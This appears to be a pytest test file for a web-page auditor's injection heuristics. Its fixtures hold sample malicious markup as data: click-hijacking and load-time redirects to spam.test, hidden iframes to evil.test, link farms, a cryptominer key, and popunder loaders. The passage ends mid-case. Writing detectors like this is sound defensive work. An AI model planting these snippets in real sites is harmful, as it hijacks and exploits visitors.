"""Each injection heuristic on small pages: the dirty variant fires, the clean twin stays quiet."""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.heuristics import FINDING_KINDS
from auditor.model import Category, PageReport, Severity

AuditHtml = Callable[..., PageReport]
H, M, L = Severity.HIGH, Severity.MEDIUM, Severity.LOW


def page(body: str, head: str = "") -> str:
    return (f"<html><head><title>t</title>{head}</head><body><main><article>"
            f"<p>Some article text that is long enough to be a paragraph.</p></article>"
            f"</main>{body}</body></html>")


def unmarked(script: str, wrapper: str = '<div class="wrapper">', first: str = "") -> str:
    """A radio station's page of plain divs, no main or article to mark its content: a
    top bar, the schedule, a card with a share button, a menu and a footer inside one
    wrapper (`wrapper` opens it; `first` goes before it, a skip link), then `script`."""
    schedule = "<p>" + "Jazz at nine, then the late news and a talk on harbour life. " * 10
    return (f"<html><head><title>Tonight</title></head><body>{first}{wrapper}<div class="
            f"'top-bar'><a href='/'>Radio</a><ul class='menu'><li><a href='/shows'>Shows</a>"
            f"</li></ul></div><div id='content-area'><h1>Tonight</h1>{schedule}</p><div class="
            f"'card'><h3>Late show</h3><p>Call in after ten.</p><button class='share'>Share"
            f"</button></div></div><div class='footer'>&copy; Radio</div></div><script>{script}"
            f"</script></body></html>")


_TO_SPAM = "function(){location.href='https://spam.test/x'}"

CASES: list[tuple[str, str, set[tuple[str, Severity]]]] = [
    # redirects
    ("meta refresh off-site", page("", '<meta http-equiv="refresh" content="0;url=https://spam.test/">'),
     {("redirect", H)}),
    ("meta refresh same site", page("", '<meta http-equiv="refresh" content="5;url=/new-page">'),
     set()),
    ("location.replace off-site", page("<script>location.replace('https://spam.test/x')</script>"),
     {("redirect", H)}),
    ("window.location off-site", page('<script>window.location = "//spam.test/";</script>'),
     {("redirect", H)}),
    ("location.href same site", page("<script>location.href='https://www.site.example/login'</script>"),
     set()),
    # a link the script makes or finds and clicks (Chromium 156 followed each)
    ("made link clicked off-site", page("<script>var a=document.createElement('a');"
                                        "a.href='https://spam.test/win';document.body."
                                        "appendChild(a);a.click();</script>"),
     {("redirect", H)}),
    ("found link clicked off-site", page('<a id="go" href="https://spam.test/win">next</a>'
                                         "<script>document.querySelector('a#go').click()"
                                         "</script>"),
     {("redirect", M)}),
    ("made link not clicked", page("<script>var a=document.createElement('a');"
                                   "a.href='https://spam.test/win';menu.appendChild(a);</script>"),
     set()),
    ("jQuery click of a link", page('<a id="go" href="https://spam.test/win">next</a>'
                                    '<script>$("#go").click()</script>'), set()),
    ("made link clicked same site", page("<script>var a=document.createElement('a');"
                                         "a.href='https://www.site.example/next';a.click();"
                                         "</script>"), set()),
    # a click of the visitor's on one element, a new tab, is no redirect of the visitor
    ("share button's link opens a new tab", page(
        '<button onclick="share()">Tweet</button><script>function share(){var a=document.'
        "createElement('a');a.href='https://twitter.com/intent/tweet?u=x';a.target='_blank';"
        "a.click()}</script>"), set()),
    ("made link a button's onclick clicks", page(
        '<button onclick="go()">Shop</button><script>function go(){var a=document.'
        "createElement('a');a.href='https://shop.partner.test/x';a.click()}</script>"), set()),
    ("cross-site download a button's listener clicks", page(
        "<button id=pdf>PDF</button><script>document.getElementById('pdf').addEventListener("
        "'click', function () {var a=document.createElement('a');a.href='https://cdn.files."
        "test/r.pdf';a.download='r.pdf';a.click();});</script>"), set()),
    ("link a button's listener clicks", page(
        '<a id="more" href="https://shop.partner.test/deal">Deal</a><button id="b">Go</button>'
        "<script>document.getElementById('b').addEventListener('click', function () {"
        "document.getElementById('more').click();});</script>"), set()),
    ("location set in a button's arrow listener", page(
        "<button id=b>Go</button><script>document.getElementById('b').addEventListener("
        "'click', () => location.href = 'https://shop.partner.test/deal');</script>"), set()),
    ("location set in a delegated jQuery listener", page(
        "<a class=share-fb>f</a><script>$(document).on('click', '.share-fb', function () {"
        "location.href='https://www.facebook.com/sharer/sharer.php?u=x';});</script>"), set()),
    ("function a button's onclick property is set to", page(
        "<button id=b>Go</button><script>function go(){location.href='https://shop.partner."
        "test/x'} document.getElementById('b').onclick = go;</script>"), set()),
    ("function window.onclick is set to", page(
        "<script>function go(){location.href='https://spam.test/x'} window.onclick = go;"
        "</script>"), {("redirect", M)}),
    ("select's change navigates", page(
        "<select id=lang></select><script>document.getElementById('lang').addEventListener("
        "'change', e => location.href = 'https://shop.partner.test/' + e.target.value);"
        "</script>"), set()),
    # ... but a click anywhere on the page, every link's, a hover or a load is no choice
    ("document click listener navigates (click-hijacking)", page(
        "<script>document.addEventListener('click', function(){location.href="
        "'https://spam.test/x'});</script>"), {("redirect", M)}),
    ("body click listener navigates", page(
        "<script>document.body.addEventListener('click', function(){location.href="
        "'https://spam.test/x'}, {once: true});</script>"), {("redirect", M)}),
    ("window.onclick navigates", page(
        "<script>window.onclick = function(){location.href='https://spam.test/x'};</script>"),
     {("redirect", M)}),
    ("jQuery document click navigates", page(
        "<script>$(document).on('click', function(){location.href='https://spam.test/x'});"
        "</script>"), {("redirect", M)}),
    ("every link's click hijacked", page(
        "<script>var l=document.querySelectorAll('a');for(var i=0;i<l.length;i++){l[i]."
        "addEventListener('click', function(e){e.preventDefault();location.href="
        "'https://spam.test/x'});}</script>"), {("redirect", M)}),
    # the page as a whole by another name: an alias, a wrapper holding its content, every
    # paragraph, a delegated selector of every element
    ("aliased document's click listener navigates", page(
        "<script>var _0x1a=document,_0x2b=_0x1a['body'];_0x2b.addEventListener('click',"
        " function(){if(!window._d){window._d=1;location.href='https://spam.test/x'}});"
        "</script>"), {("redirect", M)}),
    ("aliased document's onclick navigates", page(
        "<script>var d=document;d.onclick=function(){location.href='https://spam.test/x'};"
        "</script>"), {("redirect", M)}),
    ("body picked by selector navigates", page(
        "<script>document.querySelector('body').addEventListener('click', function(){"
        "location.href='https://spam.test/x'});</script>"), {("redirect", M)}),
    ("root element's click listener navigates", page(
        "<script>document.documentElement.addEventListener('mousedown', function(){"
        "location.href='https://spam.test/x'});</script>"), {("redirect", M)}),
    ("wrapper holding the site navigates", (
        '<html><body><div id="page"><header>Site</header><main><article><p>Story</p>'
        "</article></main></div><script>document.getElementById('page').addEventListener("
        "'click', function(){if(!sessionStorage.x){sessionStorage.x=1;location.href="
        "'https://spam.test/x'}});</script></body></html>"), {("redirect", M)}),
    ("wrapper class holding the site navigates", (
        '<html><body><div class="site-wrapper dark"><main><p>Story</p></main></div>'
        "<script>$('.site-wrapper').on('click', function(){location.href='https://spam.test/x'"
        "});</script></body></html>"), {("redirect", M)}),
    ("the main part's own click listener navigates", (
        '<html><body><header>h</header><main id="content"><p>Story</p></main><script>'
        "document.getElementById('content').addEventListener('click', function(){"
        "location.href='https://spam.test/x'});</script></body></html>"), {("redirect", M)}),
    ("every paragraph's mousedown navigates", page(
        "<script>var ps=document.querySelectorAll('p');for(var i=0;i<ps.length;i++){ps[i]."
        "addEventListener('mousedown', function(){location.href='https://spam.test/x'});}"
        "</script>"), {("redirect", M)}),
    ("every div's click navigates", page(
        "<script>[].forEach.call(document.getElementsByTagName('div'), function(el){"
        "el.addEventListener('click', function(){location.href='https://spam.test/x'});});"
        "</script>"), {("redirect", M)}),
    ("delegated to every element navigates", page(
        "<script>$(document).on('click', '*', function(){location.href='https://spam.test/x'"
        "});</script>"), {("redirect", M)}),
    ("delegated to every paragraph navigates", page(
        "<script>$(document).on('mousedown', 'body p, div', function(){location.href="
        "'https://spam.test/x'});</script>"), {("redirect", M)}),
    ("a button's listener in a script that aliases document", page(
        "<button id=b>Shop</button><script>var d=document;d.getElementById('b')."
        "addEventListener('click', function(){location.href='https://shop.partner.test/x'});"
        "</script>"), set()),
    ("a wrapper's child button navigates", (
        '<html><body><div id="page"><main><p>Story</p><button id="buy">Buy</button></main>'
        "</div><script>document.querySelector('#page #buy').addEventListener('click', "
        "function(){location.href='https://shop.partner.test/x'});</script></body></html>"),
     set()),
    # a wrapper holding most of the page, where nothing marks its main part, by its place
    # or its name; a card's, a menu's, a top bar's or a share button's listener is one
    # element's
    ("the body's first element, a wrapper, navigates", unmarked(
        f"document.body.firstElementChild.addEventListener('click',{_TO_SPAM});"),
     {("redirect", M)}),
    ("the body's children[0], a wrapper, navigates", unmarked(
        f"document.body.children[0].onclick={_TO_SPAM};"), {("redirect", M)}),
    ("the body's first element, a skip link, navigates", unmarked(
        f"document.body.firstElementChild.addEventListener('click',{_TO_SPAM});",
        first="<a class='skip-link' href='#content-area'>Skip to content</a>"), set()),
    ("the first div, the wrapper, navigates", unmarked(
        f"document.querySelector('div').addEventListener('click',{_TO_SPAM});"),
     {("redirect", M)}),
    ("a .wrapper with no landmark in it navigates", unmarked(
        f"document.querySelector('.wrapper').addEventListener('click',{_TO_SPAM});"),
     {("redirect", M)}),
    ("a jQuery-picked .wrapper navigates", unmarked(
        f"jQuery('.wrapper').on('click',{_TO_SPAM});"), {("redirect", M)}),
    ("div#page with no landmark navigates", unmarked(
        f"document.getElementById('page').addEventListener('click',{_TO_SPAM});",
        wrapper="<div id='page'>"), {("redirect", M)}),
    ("div#container's mousedown navigates", unmarked(
        f"document.getElementById('container').addEventListener('mousedown',{_TO_SPAM});",
        wrapper="<div id='container' class='container'>"), {("redirect", M)}),
    ("ASP.NET's form#form1 around the page navigates", unmarked(
        f"document.forms['form1'];document.getElementById('form1').addEventListener('click',"
        f"{_TO_SPAM});", wrapper="<form id='form1' method='post'><div>"
        ).replace("</div><script>", "</div></div></form><script>"), {("redirect", M)}),
    ("the schedule, most of the page, navigates", unmarked(
        f"document.getElementById('content-area').addEventListener('click',{_TO_SPAM});"),
     {("redirect", M)}),
    ("one card's listener navigates", unmarked(
        "document.querySelector('.card').addEventListener('click',function(){location.href="
        "'https://tickets.venue.test/late-show'});"), set()),
    ("the menu's listener navigates", unmarked(
        "document.querySelector('.menu').addEventListener('click',function(){location.href="
        "'https://shop.partner.test/'});"), set()),
    ("the top bar's listener navigates", unmarked(
        "document.querySelector('.top-bar').addEventListener('click',function(){location.href="
        "'https://radio-partner.test/'});"), set()),
    ("the share button's listener navigates", unmarked(
        "document.querySelector('.share').addEventListener('click',function(){location.href="
        "'https://www.facebook.com/sharer/sharer.php?u='+encodeURIComponent(location.href)});"),
     set()),
    # a selector read as browsers read it, by its subject after the last combinator
    ("the body's child divs, the wrapper among them, navigate", unmarked(
        f"document.querySelector('body > div').addEventListener('click',{_TO_SPAM});"),
     {("redirect", M)}),
    ("every link inside the wrapper's content navigates", unmarked(
        "document.querySelectorAll('.wrapper #content-area a').forEach(function(a){a."
        f"addEventListener('click',{_TO_SPAM});}});"), {("redirect", M)}),
    ("delegated to every paragraph of the wrapper navigates", unmarked(
        f"$(document).on('click','.wrapper > #content-area p',{_TO_SPAM});"),
     {("redirect", M)}),
    ("the first link of the wrapper's content navigates (querySelector picks one)", unmarked(
        "document.querySelector('.wrapper #content-area a').addEventListener('click',function()"
        "{location.href='https://www.amazon.co.uk/dp/B000TEST'});"), set()),
    ("the first paragraph of the page navigates ([0] of every p)", unmarked(
        "document.getElementsByTagName('p')[0].addEventListener('click',function(){location."
        "href='https://radio-partner.test/'});"), set()),
    ("every paragraph in a div navigates", unmarked(
        f"jQuery(function($){{$('div p').on('click',{_TO_SPAM});}});"), {("redirect", M)}),
    ("every link and paragraph in the body's divs navigates", unmarked(
        "document.querySelectorAll('body div a, body div p').forEach(function(el){el."
        f"addEventListener('click',{_TO_SPAM});}});"), {("redirect", M)}),
    ("the menu's links navigate", unmarked(
        "document.querySelectorAll('.top-bar .menu a').forEach(function(a){a.addEventListener("
        "'click',function(){location.href='https://shop.partner.test/'});});"), set()),
    ("the wrapper's share button navigates", unmarked(
        "document.querySelector('.wrapper .card > .share').addEventListener('click',function(){"
        "location.href='https://www.facebook.com/sharer/sharer.php?u=x'});"), set()),
    ("the paragraph after the heading navigates", unmarked(
        "document.querySelector('h1 + p').addEventListener('click',function(){location.href="
        "'https://radio-partner.test/'});"), set()),
    ("the card's button navigates, after a loop over the wrapper's links", unmarked(
        "$('.wrapper #content-area a').each(function(){if(this.hostname!==location.hostname)"
        "$(this).attr('target','_blank');});$('.card .share').on('click',function(){location."
        "href='https://www.facebook.com/sharer/sharer.php?u=x'});"), set()),
    ("each link of a loop over the wrapper's links navigates", unmarked(
        "$('.wrapper #content-area a').each(function(){$(this).on('click',function(){location."
        "href='https://spam.test/x'});});"), {("redirect", M)}),
    # a page whose `<base target>` opens links in a new tab: a clicked link leaves the page
    ("a found link clicked under <base target=_blank>", page(
        '<a id="go" href="https://spam.test/win">next</a><script>document.querySelector('
        "'a#go').click()</script>", head='<base target="_blank">'), set()),
    ("a made link clicked under <base target=_blank>", page(
        "<script>var a=document.createElement('a');a.href='https://spam.test/win';document."
        "body.appendChild(a);a.click();</script>", head='<base target="_blank">'), set()),
    ("a made link of target _top clicked under <base target=_blank>", page(
        "<script>var a=document.createElement('a');a.href='https://spam.test/win';a."
        "setAttribute('target','_top');document.body.appendChild(a);a.click();</script>",
        head='<base target="_blank">'), {("redirect", H)}),
    ("a made link clicked under a <base target=_blank> in noscript (inert)", page(
        "<script>var a=document.createElement('a');a.href='https://spam.test/win';document."
        "body.appendChild(a);a.click();</script>", head='<noscript><base target="_blank">'
        "</noscript>"), {("redirect", H)}),
    ("a made link clicked under a <base target=_blank> in a template (inert)", page(
        "<template><base target='_blank'></template><script>var a=document.createElement('a');"
        "a.href='https://spam.test/win';document.body.appendChild(a);a.click();</script>"),
     {("redirect", H)}),
    ("a link of target _self clicked under <base target=_blank>", page(
        '<a id="go" target="_self" href="https://spam.test/win">next</a><script>document.'
        "querySelector('a#go').click()</script>", head='<base target="_blank">'),
     {("redirect", M)}),
    # a listener on the page that picks the element clicked or the key pressed first
    ("document listener delegating to the login button", page(
        "<button class=js-login>Log in</button><script>document.addEventListener('click', e"
        " => {if (e.target.closest('.js-login')) location.href='https://sso.partner.test/'});"
        "</script>"), set()),
    ("document listener delegating to every link", page(
        "<script>document.addEventListener('click', function(e){if(e.target.closest('a, p'))"
        "{location.href='https://spam.test/x'}});</script>"), {("redirect", M)}),
    ("pagination key shortcut", page(
        "<script>document.addEventListener('keydown', function(e){if(e.key==='ArrowRight'){"
        "location.href='https://archive.partner.test/page/2'}});</script>"), set()),
    ("any key navigates", page(
        "<script>document.addEventListener('keydown', function(e){location.href="
        "'https://spam.test/x'});</script>"), {("redirect", M)}),
    # an async listener, a framework element's handler prop
    ("async listener of a button navigates", page(
        "<button id=b>Pay</button><script>document.getElementById('b').addEventListener("
        "'click', async (e) => {const r = await fetch('/api'); if (r.ok) location.href="
        "'https://checkout.partner.test/'});</script>"), set()),
    ("React button's onClick navigates", page(
        '<div id="root"></div><script>e("button",{onClick:()=>{window.location.href='
        '"https://sso.partner.test/login"}},"Log in")</script>'), set()),
    ("Vue button's click navigates", page(
        '<div id="app"></div><script>var r=function(){var t=this,e=t._self._c;return e('
        '"button",{on:{click:function(e){window.location.href="https://sso.partner.test/"}}}'
        ',[t._v("Log in")])}</script>'), set()),
    ("React full-page layer's onClick navigates", page(
        '<div id="root"></div><script>e("div",{style:{position:"fixed",inset:0},onClick:()=>'
        '{window.location.href="https://spam.test/x"}})</script>'), {("redirect", M)}),
    ("handler props assigned to the body navigate", page(
        "<script>Object.assign(document.body, {onclick: function(){location.href="
        "'https://spam.test/x'}});</script>"), {("redirect", M)}),
    ("React element made by a function named $ navigates", page(
        '<div id="root"></div><script>$("div",{className:"cta",onClick:()=>{'
        'window.location.href="https://sso.partner.test/"}})</script>'), set()),
    ("React element's hover navigates", page(
        '<div id="root"></div><script>e("div",{onMouseEnter:()=>{window.location.href='
        '"https://spam.test/x"}})</script>'), {("redirect", M)}),
    # a sheet pinned over the whole page is no one element: its click is any click
    ("transparent full-page layer's listener navigates", page(
        '<div id="ov" style="position:fixed;top:0;left:0;width:100%;height:100%;opacity:0">'
        "</div><script>document.getElementById('ov').addEventListener('click', function(){"
        "location.href='https://spam.test/x'});</script>"), {("redirect", M)}),
    ("a layer the script pins over the page navigates", page(
        "<script>var d=document.createElement('div');d.style.cssText='position:fixed;"
        "inset:0;z-index:2147483647';d.onclick=function(){location.href='https://spam.test/x'};"
        "document.body.appendChild(d);</script>"), {("redirect", M)}),
    ("a layer the script pins by its style's properties navigates", page(
        "<script>var d=document.createElement('div');d.style.position='fixed';d.style.top=0;"
        "d.style.width='100%';d.style.height='100%';d.addEventListener('click', function(){"
        "location.href='https://spam.test/x'});document.body.appendChild(d);</script>"),
     {("redirect", M)}),
    ("hover over an element navigates", page(
        "<div id=ad></div><script>document.getElementById('ad').addEventListener('mouseover',"
        " function(){location.href='https://spam.test/x'});</script>"), {("redirect", M)}),
    ("body onclick calls the function", page(
        "<body onclick=\"go()\"><script>function go(){location.href='https://spam.test/x'}"
        "</script></body>"), {("redirect", M)}),
    ("onload calls the function", page(
        "<body onload=\"go()\"><script>function go(){location.href='https://spam.test/x'}"
        "</script></body>"), {("redirect", M)}),
    ("the script calls the function too", page(
        "<button onclick=\"go()\">x</button><script>function go(){location.href="
        "'https://spam.test/x'} setTimeout(go, 3000);</script>"), {("redirect", M)}),
    ("function no one calls", page(
        "<script>function go(){location.href='https://spam.test/x'}</script>"),
     {("redirect", M)}),
    ("a load listener clicks a link", page(
        '<a id="go" href="https://spam.test/win">x</a><script>window.addEventListener("load",'
        " function(){document.getElementById('go').click()});</script>"), {("redirect", M)}),
    ("body onclick clicks a link", page(
        '<body onclick="document.getElementById(\'go\').click()"><a id="go" href="https://'
        'spam.test/win">x</a></body>'), {("redirect", M)}),
    ("made link to a new tab clicked at load (a popup Chromium blocks)", page(
        "<script>var a=document.createElement('a');a.href='https://spam.test/win';"
        "a.target='_blank';a.click();</script>"), set()),
    ("made link to _self clicked at load", page(
        "<script>var a=document.createElement('a');a.href='https://spam.test/win';"
        "a.setAttribute('target', '_self');a.click();</script>"), {("redirect", H)}),
    # hidden iframes
    # an unknown host's hidden frame with no mark of injection is what an unknown vendor's
    # helper looks like too (medium); a mark beside it makes it high
    ("zero-size iframe", page('<iframe src="https://evil.test/x" width="0" height="0"></iframe>'),
     {("hidden-iframe", M)}),
    ("iframe in hidden wrapper", page('<div style="display:none"><iframe src="https://evil.test/x">'
                                      "</iframe></div>"), {("hidden-iframe", M)}),
    ("zero-size iframe after </html>", page("") + '\n<iframe src="https://evil.test/x" '
     'width="0" height="0"></iframe>', {("hidden-iframe", H)}),
    ("zero-size iframe of an IP address", page('<iframe src="https://185.12.4.9/x" width="0" '
                                               'height="0"></iframe>'), {("hidden-iframe", H)}),
    ("zero-size plain-http iframe on an https page", page(
        '<iframe src="http://evil.test/x" width="0" height="0"></iframe>'), {("hidden-iframe", H)}),
    ("GTM noscript iframe", page('<noscript><iframe src="https://www.googletagmanager.com/ns.html?'
                                 'id=GTM-ABC123" height="0" width="0" style="display:none;'
                                 'visibility:hidden"></iframe></noscript>'), set()),
    ("first-party hidden iframe", page('<iframe src="/sync.html" width="0" height="0"></iframe>'),
     set()),
    ("visible video embed", page('<iframe src="https://www.youtube.com/embed/x" width="560" '
                                 'height="315"></iframe>'), set()),
    # tracking pixels
    ("third-party 1x1", page('<img src="https://pixel.test/p.gif" width="1" height="1">'),
     {("tracking-pixel", L)}),
    ("first-party 1x1", page('<img src="/p.gif" width="1" height="1">'), set()),
    ("hidden image of no size", page('<img src="https://pixel.test/p.gif" style="display:none">'),
     {("tracking-pixel", L)}),
    # a hidden image of a size a visitor sees is a beacon only where the lists block it
    ("hidden 16x16 spinner a script shows", page(
        '<img class="loading" src="https://s0.themecdn.test/i/loading.gif" width="16" '
        'height="16" style="display:none">'), set()),
    ("hidden badge the lists block", page(
        '<img src="https://ad.doubleclick.net/activity/b.gif" width="88" height="31" '
        'style="display:none">'), {("tracking-pixel", L)}),
    ("ordinary image", page('<img src="https://cdn.test/photo.jpg" width="640" height="480">'),
     set()),
    # hidden link farms
    ("off-screen link farm", page('<div style="position:absolute;left:-5000px">'
                                  '<a href="https://a-casino.test/">a</a><a href="https://b-pills.test/">'
                                  'b</a><a href="https://c-loans.test/">c</a></div>'),
     {("hidden-links", H)}),
    ("display:none link farm", page('<div style="display:none"><a href="https://a.test/">a</a>'
                                    '<a href="https://b.test/">b</a><a href="https://c.test/">c</a>'
                                    "</div>"), {("hidden-links", H)}),
    ("font-size:0 link farm", page('<p style="font-size:0">'
                                   '<a href="https://a.test/">a</a><a href="https://b.test/">b</a>'
                                   '<a href="https://c.test/">c</a></p>'), {("hidden-links", H)}),
    ("hidden dropdown menu", page('<div class="dropdown-menu" style="display:none">'
                                  '<a href="https://a.test/">a</a><a href="https://b.test/">b</a>'
                                  '<a href="https://c.test/">c</a></div>'), set()),
    ("hidden social links", page('<div style="display:none"><a href="https://twitter.com/x">t</a>'
                                 '<a href="https://www.facebook.com/x">f</a><a href="https://www.'
                                 'linkedin.com/x">l</a></div>'), set()),
    # a size under one unit is no zero: a partners line set at 0.875rem was a high farm
    ("links set at 0.875rem", page('<div class="partners" style="font-size: 0.875rem">'
                                   '<a href="https://a.test/">a</a><a href="https://b.test/">b</a>'
                                   '<a href="https://c.test/">c</a></div>'), set()),
    ("font-size:0.0em link farm", page('<p style="font-size:0.0em">'
                                       '<a href="https://a.test/">a</a><a href="https://b.test/">'
                                       'b</a><a href="https://c.test/">c</a></p>'),
     {("hidden-links", H)}),
    ("font-size:0 whitespace trick", page('<div style="font-size:0"><a style="font-size:14px" '
                                          'href="https://a.test/">a</a><a href="https://b.test/">b</a>'
                                          '<a href="https://c.test/">c</a></div>'), set()),
    ("two hidden off-site links", page('<div style="left:-9999px;position:absolute">'
                                       '<a href="https://a.test/">a</a><a href="https://b.test/">b</a>'
                                       "</div>"), set()),
    # cryptominers
    ("CryptoLoot key", page("<script>var m = new CRLT.Anonymous("
                            "'abcdef0123456789abcdef0123456789'); m.start();</script>"),
     {("cryptominer", H)}),
    ("self-hosted cryptonight", page("<script src='/js/worker.js'></script><script>var w = new "
                                     "Worker('/js/cryptonight.wasm.js');</script>"),
     {("cryptominer", H)}),
    # popunders
    # a pop network's settings (globals or a queue its loader reads: catalogue `settings`)
    # pop nothing without a request of it, its loader; beside one they are its pop tag
    ("PopAds settings alone",
     page("<script>var _pop = _pop || []; _pop.push(['siteId', 4827163]);</script>"), set()),
    ("PopAds settings and its pop.js",
     page("<script>var _pop = _pop || []; _pop.push(['siteId', 4827163]);</script>"
          "<script src='//c1.popads.net/pop.js'></script>"), {("popunder", M)}),
    ("Clicksor's pop setting alone",
     page("<script>clicksor_enable_pop = true; clicksor_frequencyCap = 6;</script>"), set()),
    ("Clicksor's pop setting and its showAd.php", page(
        "<script>clicksor_enable_pop = true; clicksor_frequencyCap = 6;</script><script src="
        "'http://ads.clicksor.com/newServing/showAd.php?nid=1&amp;pid=4821&amp;adtype=&amp;"
        "sid=7730'></script>"), {("popunder", M)}),
    ("PopCash's globals alone", page("<script>var uid = '482913'; var wid = '731204';</script>"),
     set()),
    ("PopCash's globals and its show.js", page(
        "<script>var uid = '482913'; var wid = '731204';</script>"
        "<script src='//cdn.popcash.net/show.js'></script>"), {("popunder", M)}),
    # its settings and, in the same tag, its own loader of a host we do not know (the
    # vendor's new CDN, an anti-adblock domain): the tag runs, and pops
    ("PopCash's globals and its own loader of another host", page(
        "<script>var uid = '482913'; var wid = '731204'; var pop_tag = document.createElement("
        "'script');pop_tag.src='//cdn.pcmirror.test/show.js';document.body.appendChild(pop_tag);"
        "</script>"), {("popunder", M)}),
    ("Clicksor's pop setting and its loader written by the same script", page(
        "<script>clicksor_enable_pop = true; document.write('<scr' + 'ipt src=\"//a.cs-mirror"
        ".test/showAd.php?pid=4821\"></scr' + 'ipt>');</script>"), {("popunder", M)}),
    # a loader of a look-alike host is none of the vendor's
    ("Clicksor's pop setting and a look-alike's script", page(
        "<script>clicksor_enable_pop = true;</script><script src='http://ads.notclicksor.test/"
        "newServing/showAd.php?pid=4821'></script>"), set()),
    ("popMagic code", page("<script>var adConfig={}; popMagic.init(adConfig);</script>"),
     {("popunder", M)}),
    ("click hijack", page("<script>document.addEventListener('click', function(){var w=window.open("
                         "'https://ads.test/'); w.blur(); window.focus();});</script>"),
     {("popunder", M)}),
    ("ordinary window.open", page("<button onclick=\"window.open('/help','help')\">Help</button>"),
     set()),
    # a network selling several formats loads its pop tag by a file named for it: ExoClick's
    # v1 popunder, as Indonesian lyrics sites paste it; a newsletter popup is none
    ("ExoClick's popunder1000.js", page(
        "<script>var ad_idzone = '4187236', ad_popup_fallback = false, ad_frequency_period = 720;"
        "</script><script src='https://a.pemsrv.com/popunder1000.js'></script>"),
     {("popunder", M)}),
    ("a newsletter popup script", page("<script src='/js/newsletter-popup.min.js'></script>"),
     set()),
    # a site's defence against pops names the format too; a pop library's file is a pop tag
    ("a theme's anti-popunder script", page("<script src='/wp-content/themes/x/js/anti-"
                                           "popunder.js'></script>"), set()),
    ("a pop blocker plugin", page("<script src='/js/popunder-blocker.min.js?ver=1.2'></script>"
                                  "<script src='/plugins/stop-popunder/stop-popunder.js'>"
                                  "</script><script src='/js/PopunderBlocker.js'></script>"
                                  "<script src='/js/popunderkiller.min.js'></script>"),
     set()),
    ("jquery.popunder.js", page("<script src='/js/jquery.popunder.js'></script>"),
     {("popunder", M)}),
    # an ad-block detector's bait: EasyList's query filters as written there (`&popunder=`,
    # no value), split from one string, one appended to a request of the detector's own
    # (Instart Logic's nanovisor); a pop network's address with the key set is a pop tag
    ("an ad-block detector's filter list", page(
        "<script>var b=\"&ad_box_ &adclient= &popunder= &program=revshare& &showad= &smallad=\""
        ".split(' ');var x=new XMLHttpRequest();x.open('GET','/i10c.js?'+b[Math.floor("
        "Math.random()*b.length)]);x.send();</script>"), set()),
    ("a pop address's key with its value", page(
        "<script>var s=document.createElement('script');s.src='https://go.pops.test/t.js?zone="
        "4471&popunder=1';document.body.appendChild(s);</script>"), {("popunder", M)}),
    # ad template comments
    ("theme banner comment", page("<!-- header banner image --><img src='/h.jpg'>"), set()),
    ("theme ad comment outside the article",
     page("<aside><!-- sidebar ad slot --></aside>"), set()),
    ("kit comment inside the article",
     "<html><body><article><!-- JuicyAds v3.0 --><p>text</p></article></body></html>",
     {("ad-template-comment", L)}),
    ("words that are not ads", page("<!-- uploads, addresses, badges and adverbs -->"), set()),
    # the page's markup put aside: an ad word in its text (Italian's `ad`, the preposition)
    # is a reader's, no marker; ad code put aside names its ad in its tags
    ("a menu put aside, its words Italian",
     "<html><body><div id='header'><!--<ul class='nav-ext'><li><a href='#'>Informazione</a>"
     "</li><li class='n-rss'><a href='#'>RSS, abbonati ad Ansa con gli Rss</a></li></ul>-->"
     "<ul id='nav-main'><li><a href='/'>home</a></li></ul></div></body></html>", set()),
    # a mobile template's block put aside in a conditional comment's marks, its one ad word
    # the Italian `ad` of a headline written as the link's address
    ("a story's thumbnail put aside, its address a headline",
     "<html><body><div id='list'><figure class='thumb'><img src='/t/1.jpg'></figure><!--"
     "[mobile]>\n <figure class='thumb'>\n <a href='/cronaca/sorpresi-a-spacciare-davanti-"
     "ad-un-bar-due-arresti-2014.html'><img alt='Sorpresi a spacciare' src='/t/1.jpg'></a>"
     "\n </figure>\n <![mobile]--><h1><a href='/cronaca/x.html'>Sorpresi</a></h1></div>"
     "</body></html>", set()),
    ("a banner put aside in a conditional comment, its link the ad server's",
     "<html><body><div id='list'><!--[mobile]> <a href='https://ads.example.net/click?"
     "zone=4'><img src='/b/320x50.gif'></a> <![mobile]--><h1>Sorpresi</h1></div>"
     "</body></html>", {("ad-template-comment", L)}),
    ("a banner put aside, its link an ad zone's words joined as a headline's",
     "<html><body><div id='list'><!-- <a href='https://www.site.example/go/ad-zone-top-"
     "home-leaderboard'><img src='/b/t.jpg'></a> --><h1>Sorpresi</h1></div></body></html>",
     {("ad-template-comment", L)}),
    ("a headline with an English 'ads', put aside",
     "<html><body><div id='list'><!-- <a href='/news/watchdog-bans-misleading-ads-for-"
     "loans.html'><img src='/t/2.jpg'></a> --><h1>Sorpresi</h1></div></body></html>", set()),
    ("a banner put aside, its image named as a headline",
     "<html><body><div id='list'><!-- <div class='box'><img src='/b/summer-sale-ad-"
     "banner-for-our-readers.gif'></div> --><h1>Sorpresi</h1></div></body></html>",
     {("ad-template-comment", L)}),
    ("ad code put aside",
     "<html><body><div id='header'><!-- <div class='ad-slot'><script src='/js/unit.js'>"
     "</script></div> --><ul id='nav-main'><li><a href='/'>home</a></li></ul></div>"
     "</body></html>", {("ad-template-comment", L)}),
    # an ad box put aside whose only ad word is its label's line: the label is the box's
    # marker, no reader's prose
    ("an ad box put aside, labelled",
     "<html><body><div id='sidebar'><!-- <div class='sidebar-widget'><h3>Advertisement</h3>"
     "<img src='/banners/sponsor.jpg' alt='Sponsor'></div> --><ul id='nav-main'><li>"
     "<a href='/'>home</a></li></ul></div></body></html>", {("ad-template-comment", L)}),
    ("a unit put aside under its label and the reader's cue",
     "<html><body><div id='story'><!-- <div class='inline-break'><p class='label'>"
     "Advertisement - story continues below</p><div id='inline-unit-1'></div></div> -->"
     "<p>The council voted on Tuesday.</p></div></body></html>", {("ad-template-comment", L)}),
    ("a unit put aside under its label",
     "<html><body><div id='sidebar'><!-- <p class='small'>Ad</p><div class='box300'><img "
     "src='/b/300x250.gif'></div> --><ul id='nav-main'><li><a href='/'>home</a></li></ul>"
     "</div></body></html>", {("ad-template-comment", L)}),
    # a footer's "advertise on the site" link put aside: the ad word stands in a bold run of
    # its line ("<strong>Реклама</strong> на сайте"), the line no label's
    ("an advertise-with-us link put aside, its word in bold",
     "<html><body><div class='links'><!--<a href='/contacts/' class='footer-link'>"
     "\n<strong>Реклама</strong> на сайте\n</a>--><a href='/about/'>О проекте</a></div>"
     "</body></html>", set()),
    ("a rate-card link put aside, its word in bold",
